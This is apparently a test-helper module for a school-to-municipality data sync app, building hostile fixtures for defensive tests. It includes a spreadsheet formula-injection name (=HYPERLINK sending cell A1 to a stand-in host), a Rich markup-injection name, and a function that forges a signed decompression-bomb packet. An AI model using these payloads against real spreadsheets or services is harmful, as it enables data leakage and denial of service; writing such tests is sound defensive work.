"""Shared helpers of the hostile-file tests: an office that holds schools with hostile
names (Rich markup, a spreadsheet formula), made once per test module.

(A module of helpers named so that it belongs to the tests; it holds no tests.)
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from metodkab.storage.db import open_store
from metodkab.sync.municipal import import_packets, init_municipality, open_municipal
from metodkab.sync.sample import sample_school
from metodkab.sync.school import export_packet, import_municipality_key
from tests.unit.test_sync_support import CLOCK

MARKUP_NAME = "[/]Школа [b]"
FORMULA_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Нажмите")'


@dataclass
class HostileOffice:
    office: Path
    out: Path


def hostile_office(folder: Path, *, staff: int = 4) -> HostileOffice:
    """An office database with two schools: one named with Rich markup, one whose full and
    short names are a spreadsheet formula."""
    folder.mkdir(parents=True, exist_ok=True)
    office = init_municipality(folder / "office.sqlite", name="УО [red]района[/]", clock=CLOCK)
    out = folder / "out"
    out.mkdir()
    for n, (code, name) in enumerate((("0412", MARKUP_NAME), ("0413", FORMULA_NAME))):
        path = sample_school(folder / f"{code}.sqlite", code=code, staff=staff, seed=n + 1)
        store = open_store(path, clock=CLOCK)
        try:
            with store.atomic():
                store.conn.execute("UPDATE school SET short_name = ?, full_name = ?",
                                   (name, name))
            import_municipality_key(store, office.public_path)
            export_packet(store, out)
        finally:
            store.close()
    muni = open_municipal(office.db_path, clock=CLOCK)
    try:
        report = import_packets(muni, sorted(out.glob("*.mkp")), trusted=True)
        assert not report.refused, [o.message for o in report.refused]
    finally:
        muni.close()
    return HostileOffice(office.db_path, out)


def bomb(exchange, *, declared: int, inflated: int, seq: int = 2, key=None,
         packet_uuid: str = "61111111-2222-4333-8444-555555555555",
         school_code: str = "0412") -> bytes:
    """A small packet, signed by ``key`` (the school's own by default) and sealed to the
    office, whose body is its header line and then ``inflated`` bytes of newlines; the
    manifest declares ``declared`` bytes of content. Compressed block by block, so the
    test never holds the inflated body either."""
    import zlib

    from metodkab.sync import crypto, packet
    from tests.unit.test_sync_support import forge

    key = key or exchange.school_key
    fp = crypto.school_fingerprint(bytes(key.verify_key))
    header = crypto.canonical_json({"packet_uuid": packet_uuid, "school_code": school_code,
                                    "sender_fp": fp, "seq": seq})
    deflater = zlib.compressobj(9)
    parts = [deflater.compress(header + b"\n")]
    block = b"\n" * (1 << 20)
    for _ in range(inflated >> 20):
        parts.append(deflater.compress(block))
    parts.append(deflater.flush())
    sealed = crypto.seal(exchange.office.public[0], b"".join(parts))
    template = packet.split_packet(forge(exchange, [], seq=seq, key=key,
                                         school_code=school_code), "x")
    fields = template.manifest.model_dump()
    fields.update(packet_uuid=packet_uuid, payload_hash=crypto.sha256_hex(sealed),
                  payload_size=len(sealed), content_size=declared, content_hash="0" * 64,
                  rows=0, counts={})
    manifest = crypto.canonical_json(fields)
    signed = packet.HEADER.pack(packet.MAGIC, packet.FORMAT_VERSION, len(manifest)) + manifest
    return signed + crypto.sign(key, signed) + sealed
